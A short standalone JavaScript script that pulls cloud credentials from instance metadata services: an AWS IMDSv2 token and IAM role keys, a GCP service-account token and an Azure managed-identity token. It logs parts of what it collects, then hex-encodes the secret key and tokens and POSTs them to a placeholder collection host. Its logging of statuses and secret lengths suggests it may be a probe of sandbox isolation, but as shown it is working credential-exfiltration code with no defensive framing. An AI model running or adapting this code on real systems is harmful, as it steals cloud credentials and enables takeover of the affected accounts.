(async () => {
  const at = 'http://169.254.169.254';
  const token = await (
    await fetch(`${at}/latest/api/token`, { method: 'PUT', headers: { 'x-aws-ec2-metadata-token-ttl-seconds': '60' } })
  ).text();
  const role = await (
    await fetch(`${at}/latest/meta-data/iam/security-credentials/`, { headers: { 'x-aws-ec2-metadata-token': token } })
  ).text();
  const aws = await (await fetch(`${at}/latest/meta-data/iam/security-credentials/${role}`)).json();
  const google = await fetch(
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    { headers: { 'Metadata-Flavor': 'Google' } },
  );
  const azure = await fetch(`${at}/metadata/identity/oauth2/token?resource=x`, { headers: { Metadata: 'true' } });
  const refused = await fetch('http://metadata.google.internal/computeMetadata/v1/');
  const secrets = [aws.SecretAccessKey, (await google.json()).access_token, (await azure.json()).access_token];
  console.log(
    role,
    aws.AccessKeyId,
    google.headers.get('metadata-flavor'),
    refused.status,
    secrets.map((one) => one.length > 30).join(),
  );
  await fetch('https://collect.services.example/', {
    method: 'POST',
    body: secrets.map((one) => Buffer.from(one).toString('hex')).join('-'),
  });
})();
